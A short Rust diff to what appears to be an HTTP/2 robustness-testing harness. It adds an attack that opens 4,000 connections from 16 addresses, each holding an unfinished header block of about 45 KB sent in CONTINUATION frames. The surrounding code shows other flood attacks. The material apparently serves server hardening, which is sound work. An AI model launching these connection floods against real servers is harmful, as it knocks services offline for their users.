@@ -50,6 +50,28 @@ async fn endless_block(ground: Ground, number: u32) {
     while !connection.has_ended() && connection.send(frame::CONTINUATION, 0, stream(0), &fields).await {}
 }
 
+/// 16 addresses, 4,000 connections that have had an answer and hold 45 KB of a header block that does not end.
+pub async fn unfinished_blocks(stage: &Stage) -> Attack {
+    let ground = stage.ground();
+    crowd(4_000, move |number| unfinished_block(ground.clone(), number))
+}
+
+async fn unfinished_block(ground: Ground, number: u32) {
+    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number % 16), 65_535).await else { return };
+    let block = connection.block("GET", "/healthz", &[]);
+    let mut fields = Vec::new();
+    field(&mut fields, "x-long", &"v".repeat(15_000));
+    let mut begun = connection.get(0, "/healthz", &[]).await;
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    begun = begun && connection.send(frame::HEADERS, END_STREAM, stream(1), &block).await;
+    for _ in 0..3 {
+        begun = begun && connection.send(frame::CONTINUATION, 0, stream(1), &fields).await;
+    }
+    while begun && !connection.has_ended() {
+        tokio::time::sleep(Duration::from_secs(1)).await;
+    }
+}
+
 /// 8 connections that ask for answers to PING and SETTINGS as fast as they are taken.
 pub async fn pings(stage: &Stage) -> Attack {
     let ground = stage.ground();
